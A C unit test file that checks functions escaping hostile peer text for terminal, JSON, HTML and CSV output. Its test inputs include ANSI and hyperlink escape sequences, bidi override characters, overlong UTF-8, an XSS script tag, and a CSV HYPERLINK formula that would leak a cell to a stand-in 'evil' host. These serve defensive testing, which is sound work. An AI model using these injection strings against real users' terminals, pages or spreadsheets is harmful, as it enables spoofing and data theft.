/* test_esc.c - escaping hostile peer text for terminal, JSON, HTML, CSV. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "core/buf.h"
#include "core/compiler.h"
#include "core/esc.h"

typedef int (*esc_fn)(struct buf *, const void *, size_t);

/* String literals may hold NULs, so lengths come from sizeof. Hex escapes
 * are split ("\xC3\xA9" "abc") where a hex digit follows. */
#define CHECK(fn, in, want) check(fn, in, sizeof(in) - 1, want, sizeof(want) - 1)

static void check(esc_fn fn, const char *in, size_t n, const char *want, size_t wn)
{
	struct buf b;

	buf_init(&b, 4096);
	assert_int_equal(fn(&b, in, n), 0);
	assert_int_equal(b.len, wn);
	assert_memory_equal(buf_cstr(&b), want, wn);
	assert_int_equal(b.data == NULL ? 0 : b.data[b.len], '\0');
	buf_free(&b);
}

/* ---- terminal ---- */

static void test_term_plain(void **state UNUSED)
{
	CHECK(esc_term, "", "");
	CHECK(esc_term, "220 mx.example.org ESMTP", "220 mx.example.org ESMTP");
	CHECK(esc_term, " ~!\"#$%&'()*+,-./:;<=>?@[]^_`{|}", " ~!\"#$%&'()*+,-./:;<=>?@[]^_`{|}");
}

static void test_term_backslash_and_whitespace(void **state UNUSED)
{
	CHECK(esc_term, "a\\b", "a\\\\b");
	CHECK(esc_term, "a\tb\r\nc", "a\\tb\\r\\nc");
	/* An escape-looking input stays distinguishable from a real one. */
	CHECK(esc_term, "\\x1B", "\\\\x1B");
}

static void test_term_ansi(void **state UNUSED)
{
	CHECK(esc_term, "\x1b[31mred\x1b[0m", "\\x1B[31mred\\x1B[0m");
	/* OSC 8 hyperlink, terminated by BEL */
	CHECK(esc_term, "\x1b]8;;http://evil\x07x", "\\x1B]8;;http://evil\\x07x");
	/* Cursor up and erase line: a banner trying to hide itself */
	CHECK(esc_term, "ok\x1b[1A\x1b[2K", "ok\\x1B[1A\\x1B[2K");
}

static void test_term_controls(void **state UNUSED)
{
	CHECK(esc_term, "a\0b", "a\\x00b");
	CHECK(esc_term, "\x01\x08\x0b\x0c\x1f", "\\x01\\x08\\x0B\\x0C\\x1F");
	CHECK(esc_term, "\x7f", "\\x7F");
	/* C1: NEL, CSI (8-bit ESC [), and the last one, APC */
	CHECK(esc_term, "\xc2\x85", "\\xC2\\x85");
	CHECK(esc_term,
	      "\xc2\x9b"
	      "31m",
	      "\\xC2\\x9B31m");
	CHECK(esc_term, "\xc2\x80\xc2\x9f", "\\xC2\\x80\\xC2\\x9F");
	/* U+00A0 is the first code point after C1: printable. */
	CHECK(esc_term, "\xc2\xa0", "\xc2\xa0");
}

static void test_term_bidi(void **state UNUSED)
{
	/* RLO reverses "txt.exe" into "exe.txt" on screen. */
	CHECK(esc_term,
	      "abc\xe2\x80\xae"
	      "def",
	      "abc\\xE2\\x80\\xAEdef");
	CHECK(esc_term, "\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad",
	      "\\xE2\\x80\\xAA\\xE2\\x80\\xAB\\xE2\\x80\\xAC\\xE2\\x80\\xAD");
	/* LRI, RLI, FSI, PDI */
	CHECK(esc_term, "\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9",
	      "\\xE2\\x81\\xA6\\xE2\\x81\\xA7\\xE2\\x81\\xA8\\xE2\\x81\\xA9");
	/* LRM, RLM, ALM */
	CHECK(esc_term, "\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c",
	      "\\xE2\\x80\\x8E\\xE2\\x80\\x8F\\xD8\\x9C");
	/* Neighbours are ordinary: U+202F, U+2065, U+206A, U+200D */
	CHECK(esc_term, "\xe2\x80\xaf\xe2\x81\xa5\xe2\x81\xaa\xe2\x80\x8d",
	      "\xe2\x80\xaf\xe2\x81\xa5\xe2\x81\xaa\xe2\x80\x8d");
}

static void test_term_valid_utf8(void **state UNUSED)
{
	CHECK(esc_term, "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80",
	      "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80");
	/* Boundaries: U+0080 is C1, U+07FF, U+0800, U+D7FF, U+E000,
	 * U+FFFF, U+10000, U+10FFFF are all fine. */
	CHECK(esc_term, "\xdf\xbf\xe0\xa0\x80\xed\x9f\xbf\xee\x80\x80\xef\xbf\xbf",
	      "\xdf\xbf\xe0\xa0\x80\xed\x9f\xbf\xee\x80\x80\xef\xbf\xbf");
	CHECK(esc_term, "\xf0\x90\x80\x80\xf4\x8f\xbf\xbf", "\xf0\x90\x80\x80\xf4\x8f\xbf\xbf");
}

static void test_term_overlong(void **state UNUSED)
{
	/* '/' as 2, 3 and 4 bytes; NUL as C0 80 */
	CHECK(esc_term, "\xc0\xaf", "\\xC0\\xAF");
	CHECK(esc_term, "\xc1\xbf", "\\xC1\\xBF");
	CHECK(esc_term, "\xe0\x80\xaf", "\\xE0\\x80\\xAF");
	CHECK(esc_term, "\xe0\x9f\xbf", "\\xE0\\x9F\\xBF");
	CHECK(esc_term, "\xf0\x80\x80\xaf", "\\xF0\\x80\\x80\\xAF");
	CHECK(esc_term, "\xf0\x8f\xbf\xbf", "\\xF0\\x8F\\xBF\\xBF");
	CHECK(esc_term, "\xc0\x80", "\\xC0\\x80");
	/* Overlong ESC must not become a live ESC. */
	CHECK(esc_term, "\xc0\x9b[31m", "\\xC0\\x9B[31m");
}

static void test_term_surrogates_and_range(void **state UNUSED)
{
	CHECK(esc_term, "\xed\xa0\x80", "\\xED\\xA0\\x80");
	CHECK(esc_term, "\xed\xbf\xbf", "\\xED\\xBF\\xBF");
	/* CESU-8 pair for U+1F600 */
	CHECK(esc_term, "\xed\xa0\xbd\xed\xb8\x80", "\\xED\\xA0\\xBD\\xED\\xB8\\x80");
	/* U+110000 and the bytes that can never appear */
	CHECK(esc_term, "\xf4\x90\x80\x80", "\\xF4\\x90\\x80\\x80");
	CHECK(esc_term, "\xf5\x80\x80\x80", "\\xF5\\x80\\x80\\x80");
	CHECK(esc_term, "\xfe\xff", "\\xFE\\xFF");
}

static void test_term_truncated(void **state UNUSED)
{
	CHECK(esc_term, "\xe2\x82", "\\xE2\\x82");
	CHECK(esc_term,
	      "\xe2\x82"
	      "A",
	      "\\xE2\\x82A");
	CHECK(esc_term, "x\xf0\x9f\x98", "x\\xF0\\x9F\\x98");
	CHECK(esc_term, "\xc3", "\\xC3");
	/* A lone continuation byte */
	CHECK(esc_term, "\x80", "\\x80");
	/* A broken lead does not swallow the valid sequence after it. */
	CHECK(esc_term, "\xe2\xe2\x82\xac", "\\xE2\xe2\x82\xac");
	CHECK(esc_term, "\xc3\x1b", "\\xC3\\x1B");
}

static void test_term_cap(void **state UNUSED)
{
	struct buf b;

	buf_init(&b, 10);
	assert_int_equal(buf_puts(&b, "pre"), 0);
	/* "ab" fits, the escape of ESC pushes past 10: nothing is kept. */
	assert_int_equal(esc_term(&b, "ab\x1b[31m", 7), -1);
	assert_int_equal(b.len, 3);
	assert_string_equal(buf_cstr(&b), "pre");
	assert_int_equal(esc_term(&b, "abcdefg", 7), 0);
	assert_string_equal(buf_cstr(&b), "preabcdefg");
	assert_int_equal(esc_term(&b, "", 0), 0);
	assert_int_equal(esc_term(&b, "h", 1), -1);
	assert_string_equal(buf_cstr(&b), "preabcdefg");
	buf_free(&b);
}

static void test_term_null_empty(void **state UNUSED)
{
	struct buf b;

	buf_init(&b, 10);
	assert_int_equal(esc_term(&b, NULL, 0), 0);
	assert_int_equal(b.len, 0);
	buf_free(&b);
}

static void test_term_dup(void **state UNUSED)
{
	char *s = esc_term_dup("EHLO \x1b[2J\xe2\x80\xae");
	char *big;
	size_t i;

	assert_string_equal(s, "EHLO \\x1B[2J\\xE2\\x80\\xAE");
	free(s);
	s = esc_term_dup(NULL);
	assert_string_equal(s, "");
	free(s);
	s = esc_term_dup("");
	assert_string_equal(s, "");
	free(s);
	/* Worst case, every byte quadruples: still no cap. */
	big = malloc(300001);
	assert_non_null(big);
	memset(big, 0x1b, 300000);
	big[300000] = '\0';
	s = esc_term_dup(big);
	assert_int_equal(strlen(s), 1200000);
	for (i = 0; i < 1200000; i += 4)
		assert_memory_equal(s + i, "\\x1B", 4);
	free(s);
	free(big);
}

/* ---- JSON (UTF-8) ---- */

static void test_utf8_controls(void **state UNUSED)
{
	/* A decoded JSON string may reach a terminal (jq -r): controls but
	 * tab and newline, DEL, C1 and bidi controls as \xHH text. */
	CHECK(esc_utf8, "a\tb\r\nc", "a\tb\\x0D\nc");
	CHECK(esc_utf8, "\x1b[31mred", "\\x1B[31mred");
	CHECK(esc_utf8, "\x01\x7f", "\\x01\\x7F");
	CHECK(esc_utf8, "\xc2\x9b\xe2\x80\xae", "\\xC2\\x9B\\xE2\\x80\\xAE");
	CHECK(esc_utf8, "\xe2\x81\xa6x\xe2\x81\xa9", "\\xE2\\x81\\xA6x\\xE2\\x81\\xA9");
	CHECK(esc_utf8, "caf\xc3\xa9 \xe2\x82\xac", "caf\xc3\xa9 \xe2\x82\xac");
}

static void test_utf8_nul_and_backslash(void **state UNUSED)
{
	CHECK(esc_utf8, "a\0b", "a\\x00b");
	CHECK(esc_utf8, "\0\0", "\\x00\\x00");
	CHECK(esc_utf8, "C:\\dir", "C:\\\\dir");
	/* The literal text \x00 is not confused with a NUL. */
	CHECK(esc_utf8, "\\x00", "\\\\x00");
}

static void test_utf8_invalid(void **state UNUSED)
{
	CHECK(esc_utf8, "\xc0\xaf", "\\xC0\\xAF");
	CHECK(esc_utf8, "\xed\xa0\x80", "\\xED\\xA0\\x80");
	CHECK(esc_utf8, "\xf4\x90\x80\x80", "\\xF4\\x90\\x80\\x80");
	CHECK(esc_utf8, "ok\xe2\x82", "ok\\xE2\\x82");
	CHECK(esc_utf8, "\xff", "\\xFF");
}

/* ---- HTML ---- */

static void test_html_specials(void **state UNUSED)
{
	CHECK(esc_html, "<script>alert('x')</script>",
	      "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;");
	CHECK(esc_html, "a&b\"c", "a&amp;b&quot;c");
	CHECK(esc_html, "\" onmouseover=\"x", "&quot; onmouseover=&quot;x");
	CHECK(esc_html, "&amp;", "&amp;amp;");
}

static void test_html_controls(void **state UNUSED)
{
	CHECK(esc_html, "a\tb\nc", "a\tb\nc");
	CHECK(esc_html, "a\rb",
	      "a\xef\xbf\xbd"
	      "b");
	CHECK(esc_html, "a\0b",
	      "a\xef\xbf\xbd"
	      "b");
	CHECK(esc_html, "\x1b[31m", "\xef\xbf\xbd[31m");
	CHECK(esc_html, "\x7f", "\xef\xbf\xbd");
	/* One replacement per C1 character, not per byte */
	CHECK(esc_html, "\xc2\x9b", "\xef\xbf\xbd");
	/* Bidi controls would reorder the page (Trojan Source): replaced */
	CHECK(esc_html, "caf\xc3\xa9 \xe2\x80\xae", "caf\xc3\xa9 \xef\xbf\xbd");
}

static void test_html_invalid(void **state UNUSED)
{
	/* Overlong '<' and '>': must not decode to markup anywhere. */
	CHECK(esc_html, "\xc0\xbcscript\xc0\xbe",
	      "\xef\xbf\xbd\xef\xbf\xbdscript\xef\xbf\xbd\xef\xbf\xbd");
	CHECK(esc_html, "\xc0\xbc", "\xef\xbf\xbd\xef\xbf\xbd");
	CHECK(esc_html, "\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
	CHECK(esc_html, "\xe2\x82", "\xef\xbf\xbd\xef\xbf\xbd");
}

static void test_html_cap(void **state UNUSED)
{
	struct buf b;

	buf_init(&b, 8);
	assert_int_equal(esc_html(&b, "a<b", 3), 0);
	assert_string_equal(buf_cstr(&b), "a&lt;b");
	assert_int_equal(esc_html(&b, "<", 1), -1);
	assert_string_equal(buf_cstr(&b), "a&lt;b");
	buf_free(&b);
}

/* ---- CSV ---- */

static void test_csv_quoting(void **state UNUSED)
{
	CHECK(esc_csv, "", "\"\"");
	CHECK(esc_csv, "plain", "\"plain\"");
	CHECK(esc_csv, "a,b", "\"a,b\"");
	CHECK(esc_csv, "say \"hi\"", "\"say \"\"hi\"\"\"");
	CHECK(esc_csv, "\"", "\"\"\"\"");
	CHECK(esc_csv, "caf\xc3\xa9", "\"caf\xc3\xa9\"");
}

static void test_csv_formula(void **state UNUSED)
{
	CHECK(esc_csv, "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
	      "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"");
	CHECK(esc_csv, "+1+1", "\"'+1+1\"");
	CHECK(esc_csv, "-2+3", "\"'-2+3\"");
	CHECK(esc_csv, "@SUM(A1:A9)", "\"'@SUM(A1:A9)\"");
	CHECK(esc_csv, "\t=1", "\"'\t=1\"");
	CHECK(esc_csv, "\r=1", "\"' =1\"");
	/* Only the first character decides. */
	CHECK(esc_csv, "a=1", "\"a=1\"");
	CHECK(esc_csv, " =1", "\" =1\"");
}

static void test_csv_controls(void **state UNUSED)
{
	CHECK(esc_csv, "a\r\nb", "\"a  b\"");
	CHECK(esc_csv, "a\tb", "\"a\tb\"");
	CHECK(esc_csv, "a\0b", "\"a b\"");
	CHECK(esc_csv, "\x1b[31m", "\" [31m\"");
	CHECK(esc_csv, "\x7f", "\" \"");
	CHECK(esc_csv, "x\xc2\x85y", "\"x y\"");
}

static void test_csv_invalid(void **state UNUSED)
{
	CHECK(esc_csv, "\xff", "\"\xef\xbf\xbd\"");
	CHECK(esc_csv, "a\xc0\xa2", "\"a\xef\xbf\xbd\xef\xbf\xbd\"");
	CHECK(esc_csv, "\xed\xa0\x80", "\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"");
}

static void test_csv_cap(void **state UNUSED)
{
	struct buf b;

	buf_init(&b, 6);
	assert_int_equal(buf_puts(&b, "x,"), 0);
	/* The closing quote would be the 7th byte: all of it is dropped. */
	assert_int_equal(esc_csv(&b, "abc", 3), -1);
	assert_string_equal(buf_cstr(&b), "x,");
	assert_int_equal(esc_csv(&b, "ab", 2), 0);
	assert_string_equal(buf_cstr(&b), "x,\"ab\"");
	buf_free(&b);

	buf_init(&b, 2);
	assert_int_equal(buf_puts(&b, "xy"), 0);
	assert_int_equal(esc_csv(&b, "", 0), -1);
	assert_string_equal(buf_cstr(&b), "xy");
	buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_term_plain),
	    cmocka_unit_test(test_term_backslash_and_whitespace),
	    cmocka_unit_test(test_term_ansi),
	    cmocka_unit_test(test_term_controls),
	    cmocka_unit_test(test_term_bidi),
	    cmocka_unit_test(test_term_valid_utf8),
	    cmocka_unit_test(test_term_overlong),
	    cmocka_unit_test(test_term_surrogates_and_range),
	    cmocka_unit_test(test_term_truncated),
	    cmocka_unit_test(test_term_cap),
	    cmocka_unit_test(test_term_null_empty),
	    cmocka_unit_test(test_term_dup),
	    cmocka_unit_test(test_utf8_controls),
	    cmocka_unit_test(test_utf8_nul_and_backslash),
	    cmocka_unit_test(test_utf8_invalid),
	    cmocka_unit_test(test_html_specials),
	    cmocka_unit_test(test_html_controls),
	    cmocka_unit_test(test_html_invalid),
	    cmocka_unit_test(test_html_cap),
	    cmocka_unit_test(test_csv_quoting),
	    cmocka_unit_test(test_csv_formula),
	    cmocka_unit_test(test_csv_controls),
	    cmocka_unit_test(test_csv_invalid),
	    cmocka_unit_test(test_csv_cap),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
